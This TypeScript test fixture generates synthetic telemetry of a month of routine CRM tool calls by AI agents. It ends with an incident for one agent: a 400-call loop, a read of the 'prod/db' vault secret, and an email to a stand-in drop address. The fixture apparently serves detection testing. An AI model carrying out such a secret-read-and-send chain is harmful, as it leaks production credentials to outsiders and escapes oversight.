const DAY_MS = 86_400_000

/** A quiet month of a dozen people as native records, and an agent’s bad hour at its end. */
export function month(nowMs: number): { readonly records: readonly string[]; readonly agent: string } {
  const today = Math.floor(nowMs / DAY_MS) * DAY_MS
  const records: string[] = []
  const call = (fields: Record<string, unknown>, atMs: number) =>
    records.push(
      JSON.stringify({
        event_id: `month-${records.length}`,
        occurred_at: new Date(atMs).toISOString(),
        outcome: 'success',
        'mcp.method.name': 'tools/call',
        ...fields,
      }),
    )
  for (let day = 24; day >= 1; day--) {
    for (let person = 0; person < 12; person++) {
      for (let hour = 0; hour < 24; hour += 2) {
        const calls = 1 + ((day * 7 + person * 3 + hour) % 4)
        for (let index = 0; index < calls; index++) {
          call(
            {
              'gen_ai.agent.id': `agent-${person}`,
              'mcp.server.name': 'crm',
              'gen_ai.tool.name': index % 2 === 0 ? 'search_customers' : 'get_customer',
              'mcp.session.id': `s-${day}-${person}-${hour}`,
              duration_ms: 20 + index,
            },
            today - day * DAY_MS + hour * 3_600_000 + index * 90_000 + person * 1000,
          )
        }
      }
    }
  }
  const agent = 'agent-7'
  const incidentMs = nowMs - 40 * 60_000
  for (let index = 0; index < 400; index++) {
    call(
      {
        'gen_ai.agent.id': agent,
        'mcp.server.name': 'crm',
        'gen_ai.tool.name': 'get_customer',
        'mcp.session.id': 'loop',
      },
      incidentMs + index * 1000,
    )
  }
  const chain = { 'gen_ai.agent.id': agent, 'mcp.session.id': 'leak' }
  call(
    {
      ...chain,
      'mcp.server.name': 'vault',
      'gen_ai.tool.name': 'read_secret',
      'gen_ai.tool.call.arguments': { path: 'prod/db' },
    },
    incidentMs + 500_000,
  )
  call(
    {
      ...chain,
      'mcp.server.name': 'gmail',
      'gen_ai.tool.name': 'send_email',
      'gen_ai.tool.call.arguments': { to: 'drop@elsewhere.example', body: 'see attachment' },
    },
    incidentMs + 560_000,
  )
  return { records, agent }
}
